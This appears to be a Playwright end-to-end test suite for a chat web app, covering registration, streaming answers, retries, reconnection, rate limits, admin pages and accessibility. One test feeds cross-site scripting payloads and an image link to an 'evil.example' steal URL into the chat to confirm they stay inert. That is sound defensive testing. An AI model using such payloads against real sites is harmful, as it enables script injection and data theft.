@@ -1,0 +1,611 @@
+// A person's ways through the web app: real nginx, responders, database, Chromium.
+//
+//	WEIR_URL=… WEIR_ADMIN_LOGIN=… WEIR_ADMIN_PASSWORD=… node journeys.mjs [part of a name]
+import {
+	accessible,
+	admin,
+	answers,
+	api,
+	badLine,
+	balanceOf,
+	chooseModel,
+	equal,
+	grant,
+	holds,
+	input,
+	journey,
+	liveAnswer,
+	look,
+	newPage,
+	newUser,
+	openSidebar,
+	PASSWORD,
+	runAll,
+	send,
+	shot,
+	signIn,
+	until,
+	URL_BASE,
+	waitAnswer,
+	WAYS,
+} from "./lib.mjs";
+
+const TEXT = {
+	en: { placeholder: "Send a message…", stop: "Stop", register: "Create account", signOut: "Sign out", stopped: "Stopped.", regenerate: "Answer again", again: "Try again" },
+	zh: { placeholder: "发消息...", stop: "停止生成", register: "注册", signOut: "退出登录", stopped: "已停止生成", regenerate: "重新生成", again: "重试" },
+};
+
+// -- the whole way, at both sizes, in both languages and themes
+
+for (const way of [WAYS[0], WAYS[2]])
+	journey(`register, chat, stop, regenerate, switch, reload, settings, sign out (${way.name})`, async () => {
+		const page = await newPage(way);
+		const words = TEXT[way.language];
+		const email = `way-${way.name}-${Date.now()}@example.org`;
+
+		// register
+		await page.goto(`${URL_BASE}/register`);
+		await page.locator('input[autocomplete="username"]').fill(email);
+		await page.locator('input[autocomplete="nickname"]').fill("Ada");
+		await page.locator('input[autocomplete="new-password"]').fill("short");
+		await page.getByRole("button", { name: words.register }).click();
+		await page.getByRole("alert").waitFor();
+		await page.locator('input[autocomplete="new-password"]').fill(PASSWORD);
+		await page.getByRole("button", { name: words.register }).click();
+		await input(page).waitFor();
+		equal(await input(page).getAttribute("placeholder"), words.placeholder, "placeholder");
+		const token = await page.evaluate(() => localStorage.length && JSON.stringify({ ...localStorage }));
+		holds(!/eyJ|wr_/.test(String(token)), "a token is in localStorage");
+
+		// chat
+		await send(page, "Tell me about weirs");
+		await liveAnswer(page).locator(".prose").waitFor();
+		equal(await page.getByRole("button", { name: words.stop, exact: true }).count(), 1, "stop button while streaming");
+		const first = await waitAnswer(page, 1);
+		holds((await first.innerText()).includes("Tell me about weirs"), "the answer is about the question");
+		equal(await page.getByRole("button", { name: words.stop, exact: true }).count(), 0, "stop button afterwards");
+		await until(async () => (await page.getByTestId("title").innerText()).includes("Tell me about weirs"), "the title of the conversation");
+
+		// stop
+		await chooseModel(page, "demo-slow");
+		await send(page, "A slow one");
+		await liveAnswer(page).locator(".prose").waitFor();
+		await page.getByRole("button", { name: words.stop, exact: true }).click();
+		const second = await waitAnswer(page, 2);
+		holds((await second.innerText()).includes(words.stopped), "it says that it was stopped");
+
+		// regenerate a good answer: one more, and the old one stays
+		await chooseModel(page, "demo-fast");
+		await second.getByRole("button", { name: words.regenerate }).click();
+		await waitAnswer(page, 3);
+		equal(await page.locator('article:not([data-status])').count(), 2, "questions");
+
+		// regenerate a failed one: in its place
+		await send(page, "[[demo fault=500 fail=4]] Fail, then work");
+		await waitAnswer(page, 4, "llm_error").catch(() => waitAnswer(page, 4, "error"));
+		const failedId = await answers(page).nth(3).getAttribute("data-message");
+		await until(async () => {
+			await answers(page).nth(3).getByRole("button", { name: words.again }).click();
+			await page.waitForTimeout(400);
+			await page.locator('[aria-busy="true"]').waitFor({ state: "detached" });
+			return (await answers(page).nth(3).getAttribute("data-status")) === "success";
+		}, "the retried answer succeeds", 20_000);
+		equal(await answers(page).count(), 4, "answers after the retry");
+		equal(await answers(page).nth(3).getAttribute("data-message"), failedId, "the id of the refilled answer");
+
+		// switch away in the middle, and come back to the whole of it
+		await chooseModel(page, "demo");
+		await send(page, "[[demo deltas=160 pace=40]] The long river");
+		await liveAnswer(page).locator(".prose").waitFor();
+		const path = new URL(page.url()).pathname;
+		await openSidebar(page, way);
+		await page.locator("aside a[href='/']").click();
+		await input(page).waitFor();
+		equal(await answers(page).count(), 0, "answers in the new conversation");
+		await chooseModel(page, "demo-fast");
+		await send(page, "Another matter");
+		await waitAnswer(page, 1);
+		holds(!(await page.getByRole("log").innerText()).includes("The long river"), "nothing leaked into the other conversation");
+		await page.locator("[role=status]").filter({ hasText: /Tell me about weirs|Tell me/ }).first().waitFor({ timeout: 15_000 });
+		await page.evaluate((to) => history.pushState(null, "", to), path);
+		const back = await waitAnswer(page, 5);
+		holds((await back.innerText()).includes("The long river"), "the whole answer is there");
+
+		// reload in the middle: it goes on and ends
+		await chooseModel(page, "demo");
+		await send(page, "[[demo deltas=400 pace=40]] Reload me");
+		await liveAnswer(page).locator(".prose").waitFor();
+		await page.waitForTimeout(700);
+		await page.reload();
+		await liveAnswer(page).locator(".prose").waitFor();
+		const reloaded = await waitAnswer(page, 6);
+		holds((await reloaded.innerText()).includes("Reload me"), "the answer after a reload");
+
+		// settings
+		await openSidebar(page, way);
+		await page.locator("aside footer button").first().click();
+		await page.getByRole("menuitem").first().click();
+		const dialog = page.getByRole("dialog");
+		await dialog.locator("input").first().fill("Grace");
+		await dialog.locator("button[type=submit]").click();
+		await page.getByText(way.language === "zh" ? "已保存" : "Saved").waitFor();
+		await look(page, `settings-${way.name}`);
+		await page.keyboard.press("Escape");
+		await dialog.waitFor({ state: "detached" });
+		await page.goto(`${URL_BASE}/settings`);
+		equal(await page.locator("main form input").inputValue(), "Grace", "nickname on /settings");
+		await page.goto(`${URL_BASE}/settings/balance`);
+		await page.locator("main ul li").first().waitFor();
+		await look(page, `balance-${way.name}`);
+
+		// sign out
+		await page.goto(`${URL_BASE}/settings`);
+		await page.getByRole("button", { name: words.signOut }).click();
+		await page.locator('input[autocomplete="current-password"]').waitFor();
+		await page.goto(`${URL_BASE}${path}`);
+		await page.locator('input[autocomplete="current-password"]').waitFor();
+		holds(page.url().includes("next="), "the way back is remembered");
+		await page.locator('input[autocomplete="username"]').fill(email);
+		await page.locator('input[autocomplete="current-password"]').fill(PASSWORD);
+		await page.keyboard.press("Enter");
+		await page.waitForURL(`**${path}`);
+	});
+
+// -- the screens
+
+for (const way of WAYS)
+	journey(`the screens are complete and accessible (${way.name})`, async () => {
+		const user = await newUser("Lin");
+		const page = await newPage(way);
+		await page.goto(`${URL_BASE}/signin`);
+		await page.locator("form").waitFor();
+		await look(page, `signin-${way.name}`);
+		for (const path of ["register", "forgot", "reset"]) {
+			await page.goto(`${URL_BASE}/${path}`);
+			await page.locator("main h1").waitFor();
+			await look(page, `${path}-${way.name}`);
+		}
+		await signIn(page, user.email);
+		await page.locator("main ul button").first().waitFor();
+		await look(page, `empty-${way.name}`);
+		await chooseModel(page, "demo-fast");
+		await send(page, "What is a weir, and why would one build it?");
+		await waitAnswer(page, 1);
+		await page.locator("pre .hljs-keyword, pre .hljs-built_in, pre .hljs-string").first().waitFor().catch(() => undefined);
+		await look(page, `chat-${way.name}`);
+		await send(page, "[[demo echo=1]] $$\\int_0^1 x^2\\,dx = \\tfrac13$$\n\nand ![a cat](https://example.org/cat.png)");
+		await waitAnswer(page, 2);
+		await page.locator("math").first().waitFor();
+		await send(page, "[[demo fault=filter]] Something refused");
+		await waitAnswer(page, 3, "content_violation");
+		await look(page, `refused-${way.name}`);
+		if (way.phone) {
+			await openSidebar(page, way);
+			await page.locator("aside").waitFor();
+			await look(page, `sidebar-${way.name}`);
+			await page.keyboard.press("Escape");
+		}
+		await page.locator('button[aria-haspopup="listbox"]').click();
+		await look(page, `models-${way.name}`);
+		await page.keyboard.press("Escape");
+		await page.getByRole("button", { name: way.language === "zh" ? "对话设置" : "Chat settings" }).click();
+		await look(page, `advanced-${way.name}`);
+		await page.keyboard.press("Escape");
+		for (const tab of ["appearance", "password", "sessions"]) {
+			await page.goto(`${URL_BASE}/settings/${tab}`);
+			await page.getByRole("tabpanel").waitFor();
+			await page.getByRole("tabpanel").locator("input, li").first().waitFor();
+			await look(page, `${tab}-${way.name}`);
+		}
+		await page.goto(`${URL_BASE}/nowhere`);
+		await page.getByRole("heading").waitFor();
+		await look(page, `nowhere-${way.name}`);
+	});
+
+// -- what goes wrong
+
+journey("402 says what is there and what is needed; after a grant the same answer is made", async () => {
+	const user = await newUser();
+	await grant(user, -(await balanceOf(user)));
+	const page = await newPage();
+	await signIn(page, user.email);
+	await send(page, "Too poor for this");
+	await page.getByText("Not enough credits").first().waitFor();
+	const refused = await waitAnswer(page, 1, "insufficient_balance");
+	await look(page, "credits-402");
+	const id = await refused.getAttribute("data-message");
+	equal(await page.getByTestId("balance").innerText(), "0 credits", "balance before");
+	await grant(user, 50);
+	await until(async () => (await page.getByTestId("balance").innerText()) === "50 credits", "the new balance, live");
+	await refused.getByRole("button", { name: "Try again" }).click();
+	const answer = await waitAnswer(page, 1);
+	equal(await answer.getAttribute("data-message"), id, "the id of the answer");
+	holds((await answer.innerText()).includes("Too poor for this"), "the answer");
+});
+
+journey("429 says how long to wait, is not tried again by itself, and gives the words back", async () => {
+	const user = await newUser();
+	const page = await newPage();
+	await signIn(page, user.email);
+	const made = await api("POST", "/api/conversations", { token: user.token, json: {} });
+	const path = `/api/conversations/${made.json.id}/messages/stream`;
+	await until(
+		async () => {
+			const r = await api("POST", path, { token: user.token, json: { content: "x", model: "demo-fast" } });
+			return r.status === 429 && r.json.code === "rate_limited";
+		},
+		"the rate limit",
+		60_000,
+	);
+	let asked = 0;
+	page.on("request", (r) => {
+		if (r.url().endsWith("/messages/stream")) asked += 1;
+	});
+	await send(page, "One too many");
+	await page.getByText(/Please wait \d+ s/).waitFor();
+	await shot(page, "rate-429");
+	equal(await input(page).inputValue(), "One too many", "the words in the input");
+	await page.waitForTimeout(2_500);
+	equal(asked, 1, "requests");
+});
+
+journey("a full task queue is told in words, before asking", async () => {
+	const user = await newUser();
+	const page = await newPage(WAYS[1]);
+	const abort = new AbortController();
+	for (let i = 0; i < 15; i += 1) {
+		const { json } = await api("POST", "/api/conversations", { token: user.token, json: {} });
+		const r = await fetch(`${URL_BASE}/api/conversations/${json.id}/messages/stream`, {
+			method: "POST",
+			signal: abort.signal,
+			headers: { "Content-Type": "application/json", Authorization: `Bearer ${user.token}` },
+			body: JSON.stringify({ content: "[[demo duration=60000]] wait", model: "demo" }),
+		});
+		equal(r.status, 200, `stream ${i + 1}`);
+	}
+	try {
+		await signIn(page, user.email);
+		await page.waitForTimeout(500);
+		await send(page, "第十六个");
+		await page.getByText("任务队列已满，请等待当前任务完成").waitFor();
+		await shot(page, "queue-full");
+		equal(await input(page).inputValue(), "第十六个", "the words in the input");
+	} finally {
+		abort.abort();
+		const active = await api("GET", "/api/tasks?active=true&limit=100", { token: user.token });
+		await Promise.all(active.json.items.map((t) => api("POST", `/api/tasks/${t.id}/abort`, { token: user.token })));
+	}
+});
+
+journey("a lost connection is taken up again, and nothing is lost or doubled", async () => {
+	const user = await newUser();
+	const page = await newPage();
+	const line = await badLine();
+	await signIn(page, user.email, PASSWORD, "/", line.url);
+	await chooseModel(page, "demo");
+	await send(page, "[[demo deltas=200 pace=25]] Over a bad line");
+	await liveAnswer(page).locator(".prose").waitFor();
+	await page.waitForTimeout(800);
+	line.cut();
+	await page.getByText("Connection lost, reconnecting…").waitFor();
+	holds((await liveAnswer(page).innerText()).includes("About"), "what was there stays");
+	await shot(page, "reconnecting");
+	await page.waitForTimeout(1_500);
+	line.mend();
+	const shown = await (await waitAnswer(page, 1)).locator(".prose").innerText();
+	const id = new URL(page.url()).pathname.split("/").pop();
+	const kept = (await api("GET", `/api/conversations/${id}/messages`, { token: user.token })).json.items[1].content;
+	const letters = (s) => s.replace(/[^\p{L}\p{N}]/gu, "");
+	holds(letters(kept).length > 300, "a long answer");
+	const seen = letters(shown).replace(/python|sh|json|Code/g, "");
+	holds(Math.abs(seen.length - letters(kept).replace(/python|sh|json|Code/g, "").length) < 40, "the page shows what the server has");
+	line.close();
+});
+
+journey("a script in a model's answer stays text", async () => {
+	const user = await newUser();
+	const page = await newPage();
+	await signIn(page, user.email);
+	await chooseModel(page, "demo-fast");
+	const evil =
+		"[[demo echo=1]] <script>window.hacked=1</script><img src=x onerror=\"window.hacked=1\"> " +
+		"[link](javascript:window.hacked=1) <iframe srcdoc='<script>parent.hacked=1</script>'></iframe> " +
+		"<svg onload=window.hacked=1> ![x](https://evil.example/steal?q=secret)";
+	const asked = [];
+	page.on("request", (r) => asked.push(r.url()));
+	await send(page, evil);
+	const answer = await waitAnswer(page, 1);
+	await page.waitForTimeout(500);
+	equal(await page.evaluate(() => window.hacked), undefined, "window.hacked");
+	holds((await answer.innerText()).includes("<script>"), "the tag is shown as text");
+	equal(await answer.locator("script, iframe, svg[onload], img").count(), 0, "elements made from the answer");
+	equal(await answer.locator('a[href^="javascript"]').count(), 0, "javascript links");
+	equal(asked.filter((u) => u.includes("evil.example")).length, 0, "requests to the other host");
+	await shot(page, "injection");
+});
+
+// -- together
+
+journey("two tabs and two browsers stay in step", async () => {
+	const user = await newUser();
+	const one = await newPage();
+	await signIn(one, user.email);
+	const two = await newPage(WAYS[0], one.context());
+	await two.goto(URL_BASE);
+	await input(two).waitFor();
+	const three = await newPage();
+	await signIn(three, user.email);
+
+	await send(one, "[[demo deltas=120 pace=30]] Seen by all");
+	await liveAnswer(one).locator(".prose").waitFor();
+	const path = new URL(one.url()).pathname;
+	for (const other of [two, three]) {
+		await other.goto(URL_BASE + path);
+		await liveAnswer(other).locator(".prose").waitFor();
+	}
+	await waitAnswer(one, 1);
+	for (const other of [two, three]) {
+		const text = await (await waitAnswer(other, 1)).innerText();
+		holds(text.includes("Seen by all"), "the answer in the other page");
+		await other.locator("aside a", { hasText: "Seen by all" }).waitFor();
+	}
+	// a question in the third appears in the first
+	await send(three, "[[demo deltas=60 pace=30]] From the other side");
+	await one.getByText("From the other side").first().waitFor();
+	await waitAnswer(one, 2);
+	// a new name is everywhere
+	await one.getByRole("button", { name: "Rename" }).first().click();
+	await one.keyboard.type("Common ground");
+	await one.keyboard.press("Enter");
+	for (const page of [one, two, three]) {
+		await page.locator("aside a", { hasText: "Common ground" }).waitFor();
+		await until(async () => (await page.getByTestId("title").innerText()) === "Common ground", "the title bar");
+	}
+	// signing out in one tab signs out the other tab of this browser only
+	await one.locator("aside footer button").first().click();
+	await one.getByRole("menuitem", { name: "Sign out" }).click();
+	await two.locator('input[autocomplete="current-password"]').waitFor();
+	equal(await input(three).count(), 1, "the other browser is signed in");
+});
+
+journey("the sidebar: search, rename, delete with confirmation", async () => {
+	const user = await newUser();
+	const page = await newPage();
+	await signIn(page, user.email);
+	await page.getByText("No conversations yet").waitFor();
+	await chooseModel(page, "demo-fast");
+	for (const name of ["Alpha", "Beta"]) {
+		await page.locator("aside a[href='/']").click();
+		await send(page, `${name} matters`);
+		await waitAnswer(page, 1);
+	}
+	const items = page.locator("aside nav li");
+	await until(async () => (await items.count()) === 2, "two conversations");
+	await page.getByRole("searchbox").fill("alph");
+	await until(async () => (await items.count()) === 1, "one found");
+	await page.getByRole("searchbox").fill("nothing like it");
+	await page.getByText("Nothing found").waitFor();
+	await page.getByRole("searchbox").fill("");
+	await page.locator("aside a", { hasText: "Alpha" }).click({ button: "right" });
+	await look(page, "context-menu");
+	await page.getByRole("menuitem", { name: "Rename" }).click();
+	await page.keyboard.type("Gamma");
+	await page.keyboard.press("Enter");
+	await page.locator("aside a", { hasText: "Gamma" }).waitFor();
+	await page.locator("aside li", { hasText: "Gamma" }).getByRole("button").click();
+	await page.getByRole("menuitem", { name: "Delete" }).click();
+	await look(page, "delete-conversation");
+	await page.getByRole("button", { name: "Delete" }).click();
+	await until(async () => (await items.count()) === 1, "one left");
+	// a message, with confirmation too
+	await page.locator("aside a", { hasText: "Beta" }).click();
+	await waitAnswer(page, 1);
+	await answers(page).first().getByRole("button", { name: "Delete message" }).click();
+	await page.getByRole("dialog").getByRole("button", { name: "Delete" }).click();
+	await until(async () => (await answers(page).count()) === 0, "the answer is gone");
+});
+
+journey("everything works by keyboard", async () => {
+	const user = await newUser();
+	const page = await newPage();
+	await signIn(page, user.email);
+	await input(page).focus();
+	await page.keyboard.type("First line");
+	await page.keyboard.press("Shift+Enter");
+	await page.keyboard.type("second line");
+	equal(await input(page).inputValue(), "First line\nsecond line", "Shift+Enter");
+	await chooseModelByKeys(page);
+	await input(page).focus();
+	await page.keyboard.press("Enter");
+	await liveAnswer(page).locator(".prose").waitFor();
+	await page.keyboard.press("Escape");
+	await waitAnswer(page, 1);
+	// Tab goes round everything and shows where it is
+	let visible = 0;
+	for (let i = 0; i < 25; i += 1) {
+		await page.keyboard.press("Tab");
+		visible += await page.evaluate(() => {
+			const el = document.activeElement;
+			if (!el || el === document.body) return 1;
+			const style = getComputedStyle(el);
+			const ring = style.outlineStyle !== "none" && parseFloat(style.outlineWidth) > 0;
+			return ring || el.tagName === "TEXTAREA" || el.tagName === "INPUT" ? 1 : 0;
+		});
+	}
+	equal(visible, 25, "stops with a visible focus");
+
+	async function chooseModelByKeys(p) {
+		await p.locator('button[aria-haspopup="listbox"]').focus();
+		await p.keyboard.press("Enter");
+		await p.getByRole("option", { selected: true }).waitFor();
+		await p.keyboard.press("End");
+		await p.keyboard.press("Enter");
+		await until(async () => (await p.locator('button[aria-haspopup="listbox"]').innerText()).includes("demo-slow"), "the model chosen by keys");
+	}
+});
+
+journey("a fast, long answer is drawn smoothly, and the reader may scroll away", async () => {
+	const user = await newUser();
+	const page = await newPage();
+	await signIn(page, user.email);
+	await chooseModel(page, "demo-fast");
+	await page.evaluate(() => {
+		window.gaps = [];
+		let last = performance.now();
+		(function frame() {
+			const now = performance.now();
+			window.gaps.push(now - last);
+			last = now;
+			requestAnimationFrame(frame);
+		})();
+	});
+	await send(page, "[[demo deltas=1200 pace=200 bytes=90]] A hundred kilobytes");
+	await liveAnswer(page).locator(".prose").waitFor();
+	await page.waitForTimeout(2_000);
+	await page.getByTestId("messages").hover();
+	await page.mouse.wheel(0, -600);
+	await page.getByRole("button", { name: "To the bottom" }).waitFor();
+	const top = await page.getByTestId("messages").evaluate((el) => el.scrollTop);
+	await page.waitForTimeout(600);
+	equal(await page.getByTestId("messages").evaluate((el) => el.scrollTop), top, "the place of a reader who scrolled away");
+	await page.getByRole("button", { name: "To the bottom" }).click();
+	await waitAnswer(page, 1, "success", 40_000);
+	const { gaps, length } = await page.evaluate(() => ({ gaps: window.gaps, length: document.querySelector(".prose").innerText.length }));
+	holds(length > 90_000, `the answer has ${length} characters`);
+	const sorted = [...gaps].sort((a, b) => a - b);
+	const p95 = sorted[Math.floor(sorted.length * 0.95)];
+	console.log(`# frames: ${gaps.length}, p95 ${p95.toFixed(0)} ms, longest ${sorted.at(-1).toFixed(0)} ms`);
+	holds(p95 < 120, `the 95th of 100 frames took ${p95} ms`);
+	await until(async () => page.getByTestId("messages").evaluate((el) => el.scrollHeight - el.scrollTop - el.clientHeight < 60), "the end is in view");
+});
+
+journey("a picture is attached, shown and sent", async () => {
+	const user = await newUser();
+	const page = await newPage();
+	await signIn(page, user.email);
+	await chooseModel(page, "demo-fast");
+	const png = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==", "base64");
+	await page.locator('input[type="file"]').setInputFiles({ name: "dot.png", mimeType: "image/png", buffer: png });
+	await page.getByRole("button", { name: "Remove attachment" }).waitFor();
+	await send(page, "What is in this picture?");
+	await waitAnswer(page, 1);
+	const picture = page.locator("article").first().locator("img");
+	await until(() => picture.evaluate((img) => img.complete && img.naturalWidth > 0), "the picture is drawn");
+	await page.getByRole("button", { name: "Enlarge image" }).click();
+	await page.getByRole("dialog").locator("img").waitFor();
+	await page.getByRole("button", { name: "Zoom in" }).click();
+	await look(page, "picture");
+	await page.keyboard.press("Escape");
+	// another kind of file is refused with its reason
+	await page.locator('input[type="file"]').setInputFiles({ name: "evil.png", mimeType: "image/png", buffer: Buffer.from("<html>") });
+	await page.getByRole("alert").waitFor();
+	// pasted
+	await input(page).evaluate((area, bytes) => {
+		const data = new DataTransfer();
+		data.items.add(new File([new Uint8Array(bytes)], "pasted.png", { type: "image/png" }));
+		area.dispatchEvent(new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true }));
+	}, [...png]);
+	await page.getByRole("button", { name: "Remove attachment" }).waitFor();
+});
+
+// -- the operator
+
+journey("an admin grants credits, and the user's balance changes live", async () => {
+	const user = await newUser("Poor soul");
+	const before = await balanceOf(user);
+	const theirs = await newPage();
+	await signIn(theirs, user.email);
+	await theirs.getByTestId("balance").waitFor();
+	const page = await newPage();
+	await signIn(page, process.env.WEIR_ADMIN_LOGIN, process.env.WEIR_ADMIN_PASSWORD, "/admin");
+	await page.getByRole("searchbox").fill(user.email);
+	await until(async () => (await page.locator("tbody tr").count()) === 1, "the user is found");
+	await page.getByRole("button", { name: "Grant credits" }).click();
+	await page.getByLabel("Amount").fill("123.5");
+	await page.getByLabel("Reason").fill("a present");
+	await page.getByRole("button", { name: "Save" }).click();
+	await page.getByText(/New balance/).waitFor();
+	await until(async () => (await theirs.getByTestId("balance").innerText()) === `${before + 123.5} credits`, "the balance of the user, live");
+	await theirs.goto(`${URL_BASE}/settings/balance`);
+	await theirs.getByText("a present").waitFor();
+	// an ordinary user has no business here
+	await theirs.goto(`${URL_BASE}/admin`);
+	await theirs.getByText("For administrators only").waitFor();
+});
+
+for (const way of [WAYS[0], WAYS[2]])
+	journey(`administration: models, channels, agents, pool (${way.name})`, async () => {
+		const page = await newPage(way);
+		const zh = way.language === "zh";
+		await signIn(page, process.env.WEIR_ADMIN_LOGIN, process.env.WEIR_ADMIN_PASSWORD, "/admin/users");
+		await page.locator("tbody tr").first().waitFor();
+		await look(page, `admin-users-${way.name}`);
+		await page.goto(`${URL_BASE}/admin/models`);
+		await page.locator("tbody tr").first().waitFor();
+		await look(page, `admin-models-${way.name}`);
+		await page.goto(`${URL_BASE}/admin/channels`);
+		await page.locator("tbody tr").first().waitFor();
+		await look(page, `admin-channels-${way.name}`);
+		await page.getByRole("button", { name: zh ? "测试" : "Test", exact: true }).first().click();
+		await page.getByText(zh ? /毫秒内响应/ : /answered in \d+ ms/).waitFor();
+
+		// an agent: made, debugged, talked to
+		const name = `Ferryman ${way.name} ${Date.now() % 10000}`;
+		await page.goto(`${URL_BASE}/admin/agents`);
+		await page.getByRole("button", { name: zh ? "新增" : "Add" }).click();
+		const dialog = page.getByRole("dialog");
+		await dialog.getByRole("textbox").nth(0).fill(name);
+		await dialog.getByRole("textbox").nth(1).fill("Knows the river");
+		await dialog.getByRole("textbox").nth(2).fill("You are a ferryman.");
+		await look(page, `admin-agent-${way.name}`);
+		await dialog.getByRole("button", { name: zh ? "保存" : "Save" }).click();
+		const row = page.locator("tbody tr", { hasText: name });
+		await row.waitFor();
+		await row.getByRole("button", { name: zh ? "调试" : "Debug" }).click();
+		await page.getByRole("button", { name: zh ? "路由测试" : "Route test" }).click();
+		await dialog.locator("pre").waitFor();
+		await dialog.getByRole("textbox").fill("How deep is it?");
+		await page.getByRole("button", { name: zh ? "提示词预览" : "Prompt preview" }).click();
+		await dialog.locator("pre", { hasText: "You are a ferryman." }).waitFor();
+		await page.getByRole("button", { name: zh ? "执行测试" : "Run", exact: true }).click();
+		await dialog.getByText(/^done/).waitFor({ timeout: 20_000 });
+		await look(page, `admin-debug-${way.name}`);
+		await page.keyboard.press("Escape");
+		await page.goto(URL_BASE);
+		await page.getByRole("button", { name, exact: true }).click();
+		await send(page, "Take me across");
+		await waitAnswer(page, 1);
+		await page.goto(`${URL_BASE}/admin/pool`);
+		await page.locator("tbody tr").first().waitFor();
+		await page.waitForTimeout(4_500);
+		await look(page, `admin-pool-${way.name}`);
+		const { json } = await api("GET", "/api/admin/agents?limit=100", { token: await admin() });
+		const made = json.items.find((a) => a.name === name);
+		await api("DELETE", `/api/admin/agents/${made.id}`, { token: await admin() });
+	});
+
+journey("language and theme are kept; a first visit loads little", async () => {
+	const page = await newPage(WAYS[0]);
+	let scripts = 0;
+	page.on("response", async (r) => {
+		if (r.url().endsWith(".js") && r.status() === 200) scripts += Number(r.headers()["content-length"] ?? 0);
+	});
+	const user = await newUser();
+	await signIn(page, user.email);
+	await page.locator("main ul button").first().waitFor();
+	console.log(`# script of the first load: ${scripts} bytes`);
+	holds(scripts > 50_000 && scripts <= 200 * 1024, `script of the first load: ${scripts} bytes`);
+	await page.goto(`${URL_BASE}/settings/appearance`);
+	await page.getByText("中文", { exact: true }).click();
+	await page.getByText("深色").click();
+	await until(() => page.evaluate(() => document.documentElement.dataset.theme === "dark"), "the dark theme");
+	await page.reload();
+	await page.getByText("语言").waitFor();
+	equal(await page.evaluate(() => document.documentElement.dataset.theme), "dark", "theme after a reload");
+	equal(await page.evaluate(() => document.documentElement.lang), "zh-CN", "language after a reload");
+	await accessible(page, "appearance in the other language");
+	await page.goto(URL_BASE);
+	equal(await input(page).getAttribute("placeholder"), "发消息...", "placeholder");
+});
+
+process.exit((await runAll(process.argv[2])) > 0 ? 1 : 0);
